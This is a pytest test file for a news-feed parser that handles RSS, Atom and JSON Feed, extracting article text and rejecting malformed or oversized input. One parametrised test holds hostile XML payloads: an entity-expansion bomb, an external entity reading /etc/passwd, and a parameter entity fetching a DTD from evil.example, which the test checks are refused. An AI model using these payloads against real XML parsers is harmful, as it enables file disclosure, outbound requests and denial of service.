from __future__ import annotations

import json
import tracemalloc
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sayso.documents.feeds import xmlfeed
from sayso.documents.feeds.entries import entries, versions_of
from sayso.documents.feeds.feed import Feed
from sayso.documents.fragment import fragment
from sayso.documents.nouns import Capture, Version, id_of
from sayso.errors import InputError, NoArticle
from sayso.text.cleaning import clean

HOSTILE = Path(__file__).parents[3] / "shared" / "data" / "hostile"
TEXT = "The minister said that the bridge would open in May, and that no toll would be asked until the year is out."
SECOND = "“We have kept our word,” she told reporters on Monday, while the mayor of Northport stood beside her."
URL = "https://post.example/feed"

RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"
 xmlns:atom="http://www.w3.org/2005/Atom">
<channel><title>The Harbour Post</title><link>https://post.example/</link><language>en-GB</language><ttl>30</ttl>
<atom:link rel="self" href="https://post.example/feed"/><atom:link rel="next" href="?page=2"/>
<item><title>Bridge &amp;amp; tunnel open</title><link>/a?x=1&amp;y=2</link><guid isPermaLink="false">77</guid>
<pubDate>Mon, 05 Feb 2024 10:00:00 +0300</pubDate><dc:creator>Ana Bek</dc:creator><description>Short.</description>
<content:encoded><![CDATA[<p>{TEXT}</p><script>track()</script><p>{SECOND}</p>
<p>The post <a href="https://post.example/a?x=1&y=2">Bridge and tunnel open</a> stood first.</p>]]></content:encoded>
</item>
<item><title>No words</title><link>https://post.example/b</link></item>
<item><title>A teaser</title><link>https://post.example/c</link><author>desk@post.example (Bo Carr)</author>
<description>{TEXT}</description><dc:date>2024-02-06</dc:date></item>
</channel></rss>"""

ATOM = f"""<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr"><title type="html">Le &lt;i>Port&lt;/i></title>
<link rel="next" href="/p2"/><entry><title type="text">Un &lt;pont> ouvert</title><link href="/x"/><id>urn:1</id>
<published>2024-01-01T08:00:00+01:00</published><updated>2024-01-02T00:00:00Z</updated><author><name>Léa</name></author>
<author><name>Max</name></author><source><title>L’Autre</title></source><content type="xhtml" xml:lang="de">
<div xmlns="http://www.w3.org/1999/xhtml"><p>{TEXT}</p></div></content></entry></feed>"""

JSON = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "The Harbour Post",
    "language": "en",
    "feed_url": "https://post.example/feed.json",
    "next_url": "/feed.json?2",
    "authors": [{"name": "The desk"}],
    "items": [
        {"id": 1, "url": "/a", "content_html": f"<p>{TEXT}</p>", "date_published": "2024-02-05T10:00:00Z"},
        "rubbish",
        {"id": "2", "url": "http://[bad", "content_text": TEXT, "date_modified": "2024-02-05", "title": "T"},
    ],
}


def read(source: str | bytes, url: str | None = URL) -> Feed:
    return entries(source.encode() if isinstance(source, str) else source, "feed.xml", url)


def found(source: str | bytes) -> list[Version | InputError]:
    body = source.encode() if isinstance(source, str) else source
    return list(versions_of(Capture("feed.xml", body, "application/rss+xml", "2024-02-05T10:00:00+00:00", URL)))


def rss(items: str, head: str = "") -> str:
    return f'{head}<rss version="2.0"><channel><title>The Harbour Post</title>{items}</channel></rss>'


def item(link: str, text: str = TEXT, more: str = "") -> str:
    return f"<item><title>T</title><link>{link}</link><description>{text}</description>{more}</item>"


def test_rss():
    feed = read(RSS)
    assert (feed.title, feed.language, feed.wait, feed.problems) == ("The Harbour Post", "en-GB", 1800, ())
    assert (feed.url, feed.home, feed.next_url) == (URL, "https://post.example/", URL + "?page=2")
    first, second, third = feed.entries
    assert (first.guid, first.url, first.title) == ("77", "https://post.example/a?x=1&y=2", "Bridge & tunnel open")
    assert (first.published, first.modified, first.author) == ("2024-02-05T10:00:00+03:00", None, "Ana Bek")
    assert (first.is_html, first.is_summary) == (True, False)
    assert (second.url, second.content) == ("https://post.example/b", "")
    assert (third.author, third.published, third.modified, third.is_summary) == ("Bo Carr", "2024-02-06", None, True)


def test_versions_of_rss():
    first, second, third = found(RSS)
    assert isinstance(first, Version)
    assert isinstance(third, Version)
    assert first.text == f"{TEXT}\n\n{SECOND}"
    assert (first.outlet, first.title, first.lang_declared) == ("The Harbour Post", "Bridge & tunnel open", "en-GB")
    assert (first.published_from, first.extra) == ("metadata", {})
    assert (third.text, third.extra) == (TEXT, {"teaser": True})
    assert isinstance(second, NoArticle)
    assert str(second) == "feed.xml#2: the entry “No words” has no text"


def test_atom():
    feed = read(ATOM)
    (entry,) = feed.entries
    assert (feed.title, feed.next_url) == ("Le Port", "https://post.example/p2")
    assert (entry.title, entry.url, entry.author) == ("Un <pont> ouvert", "https://post.example/x", "Léa; Max")
    assert (entry.published, entry.modified) == ("2024-01-01T08:00:00+01:00", "2024-01-02T00:00:00+00:00")
    (version,) = found(ATOM)
    assert isinstance(version, Version)
    assert (version.text, version.outlet, version.lang_declared) == (TEXT, "L’Autre", "de")


def test_json_feed():
    feed = read(json.dumps(JSON))
    assert (feed.title, feed.next_url) == ("The Harbour Post", "https://post.example/feed.json?2")
    assert [str(problem) for problem in feed.problems] == [
        "feed.xml#2: is no entry of a JSON Feed: it is not an object"
    ]
    first, second = feed.entries
    assert (first.guid, first.url, first.author) == ("1", "https://post.example/a", "The desk")
    assert (second.url, second.published, second.is_html) == (None, "2024-02-05", False)
    assert [one.text for one in found(json.dumps(JSON)) if isinstance(one, Version)] == [TEXT, TEXT]


def test_half_characters_are_replaced():
    odd = {"id": "\ud800", "title": "A\ud800\0B", "url": "https://post.example/\ud800", "content_text": TEXT + "\ud800"}
    source = json.dumps({**JSON, "title": "P\ud800\0", "items": [{**odd, "authors": [{"name": "Ana\ud800"}]}]})
    (version,) = found(source)
    assert isinstance(version, Version)
    kept = (version.title, version.url, version.author, version.outlet, version.text)
    assert [value for value in kept if value is None or "\0" in value or not value.encode()] == []


@pytest.mark.parametrize(
    ("head", "wait"),
    [
        ("<ttl>5</ttl>", 300),
        ("<ttl>0</ttl>", None),
        ("<ttl>often</ttl>", None),
        ("<sy:updatePeriod>hourly</sy:updatePeriod><sy:updateFrequency>2</sy:updateFrequency>", 1800),
        ("<sy:updatePeriod> daily </sy:updatePeriod>", 86_400),
        ("<sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>0</sy:updateFrequency>", 86_400),
        ("<sy:updatePeriod>daily</sy:updatePeriod><sy:updateFrequency>x</sy:updateFrequency>", None),
    ],
)
def test_how_long_a_feed_asks_to_wait(head: str, wait: int | None):
    space = 'xmlns:sy="http://purl.org/rss/1.0/modules/syndication/"'
    assert read(rss(head).replace("<rss ", f"<rss {space} ")).wait == wait


def full(link: str, text: str) -> str:
    namespace = 'xmlns:c="http://purl.org/rss/1.0/modules/content/"'
    return f"<item><link>{link}</link><c:encoded {namespace}>{text}</c:encoded></item>"


def ids(items: str) -> list[str]:
    return [one.id for one in found(rss(items)) if isinstance(one, Version)]


def test_a_whole_text_is_named_by_its_address_as_its_page_is():
    address = "https://post.example/a"
    page = id_of(Capture("a.html", b"", "text/html", ""), address)
    assert ids(full("http://www.post.example/a?utm_source=rss", TEXT)) == ids(full(address, SECOND)) == [page]
    assert page not in ids(item(address))


def test_a_title_without_the_outlet():
    (version,) = found(
        rss(item("https://post.example/a").replace("<title>T", "<title>Bridge opens - The Harbour Post"))
    )
    assert isinstance(version, Version)
    assert (version.title, version.outlet) == ("Bridge opens", "The Harbour Post")


def test_one_id_per_article_however_its_entry_changes():
    (before,) = found(rss(item("https://post.example/a?utm_source=rss")))
    (after,) = found(rss(item("http://www.post.example/a", SECOND)))
    assert isinstance(before, Version)
    assert isinstance(after, Version)
    assert before.id == after.id


@pytest.mark.parametrize(
    ("items", "count"),
    [
        (item("https://post.example/") + item("https://post.example/", SECOND), 2),
        (item("https://post.example/live", more="<guid>1</guid>") + item("https://post.example/live", SECOND), 2),
        (item("") + item("", SECOND), 2),
        (item("https://post.example/a") * 2, 1),
    ],
)
def test_entries_are_told_apart_and_doubles_count_once(items: str, count: int):
    versions = [one for one in found(rss(items)) if isinstance(one, Version)]
    assert len({version.id for version in versions}) == len(versions) == count


def test_what_two_sites_call_by_the_same_number_is_not_one_article():
    numbered = item("", more="<guid isPermaLink='false'>1</guid>")
    one = rss(numbered).replace("<item>", "<link>https://post.example/</link><item>")
    (ours,), (again,) = found(one), found(one.replace(TEXT, SECOND))
    (theirs,) = found(one.replace("//post.", "//tribune.").replace(TEXT, SECOND))
    assert isinstance(ours, Version)
    assert isinstance(again, Version)
    assert isinstance(theirs, Version)
    assert ours.id == again.id != theirs.id


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("", "has no text"),
        ("Short.", "has a text of 6 characters, too short for an article"),
        (
            "The minister said that the bridge would open in May, and that no toll would be asked until …",
            "has a teaser",
        ),
        (
            "The minister said that the bridge would open in May, and that no toll would be asked until [...]",
            "has a te",
        ),
        ("<script>x</script><!-- x -->", "has no text"),
        ("x" * 2_000_001, "too long for an article"),
    ],
)
def test_entries_that_hold_no_article(text: str, reason: str):
    bad, good = found(rss(item("https://post.example/a", escape(text)) + item("https://post.example/b")))
    assert isinstance(bad, NoArticle)
    assert reason in bad.reason
    assert isinstance(good, Version)


@pytest.mark.parametrize(
    ("source", "kept", "told"),
    [
        (rss(item("https://post.example/a") + item("https://post.example/b", TEXT + " A & B.")), 2, ["line 1"]),
        (rss(item("https://post.example/a") + item("https://post.example/b"))[:-60], 1, ["line 1", "in the middle"]),
        ("\n\n" + rss(item("https://post.example/a"), '<?xml version="1.0"?>'), 1, []),
        (rss(item("https://post.example/a", TEXT + "\x0b")), 1, []),
        (rss(item("https://post.example/a", TEXT + "&nbsp;&Eacute;t&eacute;.")), 1, []),
        (rss("\n\n" + item("https://post.example/a") + "<a:b>"), 1, ["line 3"]),
        (rss(item("https://post.example/a") + "<item><link>http://[x</link></item>"), 1, []),
    ],
)
def test_a_broken_feed_yields_what_could_be_read(source: str, kept: int, told: list[str]):
    out = found(source)
    assert sum(isinstance(one, Version) for one in out) == kept
    problems = [str(one) for one in out if isinstance(one, InputError) and not isinstance(one, NoArticle)]
    assert len(problems) == len(told)
    assert all(words in problem for words, problem in zip(told, problems, strict=True))


def test_a_document_type_without_declarations_is_harmless():
    dtd = '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n "http://dtd.example/rss-0.91.dtd">'
    (version,) = found(rss(item("https://post.example/a", TEXT + " Caf&eacute; &lt;b&gt;x&lt;/b&gt;."), dtd))
    assert isinstance(version, Version)
    assert version.text == TEXT + " Café x."


BOMB = "<!DOCTYPE rss [" + '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">' + "]>"


@pytest.mark.parametrize(
    "head",
    [
        BOMB,
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
        f'<!DOCTYPE rss [<!ATTLIST item a CDATA "{"a" * 1000}">]>',
        f"<!DOCTYPE rss [<!-- <b> -->{BOMB[15:-2]}]>",
        f"<? x ?>< {BOMB}",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le"])
def test_declared_entities_are_refused(head: str, encoding: str):
    with pytest.raises(InputError, match="declares entities or attributes, which are refused"):
        read(rss(item("https://post.example/a", "&a;&b;&x;"), head).encode(encoding))


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("<html><body>x</body></html>", "is XML and holds no feed"),
        ("<rss", "is not well-formed XML at line 1 and holds no feed"),
        ("", "holds no feed"),
        ("<!DOCTYPE x>", "holds no feed"),
        ("{}", "is JSON, but no JSON Feed"),
        ("{", "is not valid JSON"),
        (b"\x01\x02\xff\xfe\x80abc", "is binary, not text"),
        (rss("<a/>" * 250_001), "has more than 250,000 elements"),
        (rss("<item " + " ".join(f'a{n}="1"' for n in range(257)) + "/>"), "more than 256 attributes"),
        (rss("<item>" + "<category>x</category>" * 201 + "</item>"), "more than 200 categories"),
        (b" " * 25_000_001, "is a feed of more than 25 MB"),
    ],
)
def test_what_is_refused(source: str | bytes, reason: str):
    with pytest.raises(InputError) as refused:
        read(source)
    assert reason in refused.value.reason
    assert "\n" not in str(refused.value)


def test_entries_beyond_the_limit_are_told(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(xmlfeed, "MOST_ENTRIES", 20)
    told, *kept = found(rss("".join(item(f"https://post.example/{n}") for n in range(23))))
    assert isinstance(told, InputError)
    assert told.reason == "has more than 20 entries; the rest is not read"
    assert [isinstance(one, Version) for one in kept] == [True] * 20


@pytest.mark.parametrize("encoding", ["windows-1251", "koi8-r", "utf-16"])
def test_encodings_as_declared(encoding: str):
    text = "Министр сказал, что мост откроют в мае, и что до конца года платить за проезд по нему не придётся."
    head = f'<?xml version="1.0" encoding="{encoding}"?>'
    (version,) = found(rss(item("https://post.example/a", text), head).encode(encoding))
    assert isinstance(version, Version)
    assert version.text == text


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("One <b>bold</b>&nbsp;word<br>next line<p>Second", "One bold word\nnext line\n\nSecond"),
        ("if x<y and 3 > 2 &amp; more", "if x<y and 3 > 2 & more"),
        ("<ul><li>one<li>two</ul>after<figure>caption</figure><nav>menu</nav>", "one\n\ntwo\n\nafter"),
        ("<p>大桥在五月\n开放。</p>", "大桥在五月开放。"),
        ("<p>A <a href='https://a.example/x#more'>Read the whole of it</a></p><p>Kept</p>", "Kept"),
        ("<p>As <a href='https://b.example/'>another paper told</a> us</p>", "As another paper told us"),
        ("<p>قال الوزير</p><p>🇫🇷👨‍👩‍👧 e\u0301</p>", "قال الوزير\n\n🇫🇷👨‍👩‍👧 e\u0301"),
    ],
)
def test_fragments(source: str, text: str):
    assert fragment(source, is_html=True, own="https://a.example/x") == text


CHARACTERS = st.characters(codec="utf-8", categories=["L", "M", "N", "P", "S", "Zs"])
PARAGRAPHS = st.lists(st.text(CHARACTERS | st.sampled_from("שלום مرحبا 🇫🇷👨‍👩‍👧é\u0301\u200f"), min_size=1), min_size=1)


@given(PARAGRAPHS)
def test_any_text_comes_through_json_feed_as_it_is(paragraphs: list[str]):
    text = clean("\n\n".join([TEXT, *paragraphs])).text
    items = [{"id": "1", "content_text": "\n\n".join([TEXT, *paragraphs])}]
    (version,) = found(json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": items}))
    assert isinstance(version, Version)
    assert version.text.replace("\n", " ") == text.replace("\n", " ")


@given(PARAGRAPHS)
def test_any_text_comes_through_atom_as_it_is(paragraphs: list[str]):
    # Han characters keep feedparser from taking words like "Ã©" for UTF-8 that was read wrongly.
    paragraphs = [TEXT + " 大", *paragraphs]
    html = "".join(f"<p>{escape(paragraph)}</p>" for paragraph in paragraphs)
    (version,) = found(ATOM.replace(f"<p>{TEXT}</p>", html))
    assert isinstance(version, Version)
    assert "".join(version.text.split()) == "".join(clean("\n\n".join(paragraphs)).text.split())


@given(st.binary(max_size=60), st.integers(0, len(RSS)), st.integers(0, 60))
def test_damaged_feeds_never_raise(junk: bytes, at: int, cut: int):
    body = RSS.encode()
    for one in found(body[:at] + junk + body[at + cut :]):
        assert isinstance(one, Version | InputError)


@pytest.mark.skipif(not HOSTILE.exists(), reason="the shared data are not here")
def test_hostile_files_neither_raise_nor_fill_the_memory():
    files = sorted(path for path in [*HOSTILE.glob("feeds/**/*.xml"), *HOSTILE.glob("xmltestdata/*")])
    assert len(files) >= 30
    tracemalloc.start()
    for file in files:
        out = found(file.read_bytes())
        assert out, file
    assert tracemalloc.get_traced_memory()[1] < 200_000_000
    tracemalloc.stop()
